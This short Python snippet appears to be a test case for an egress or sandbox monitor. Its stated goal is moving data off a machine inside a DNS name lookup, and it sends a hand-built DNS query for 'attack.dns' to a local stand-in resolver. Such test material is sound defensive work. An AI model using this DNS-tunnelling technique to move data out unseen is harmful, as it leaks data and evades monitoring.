"""Goal: something leaves the machine inside a name that is looked up."""
# correct
import socket


@attempt
def leave():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06attack\x03dns\x00\x00\x01\x00\x01", ("127.0.0.1", 47811))
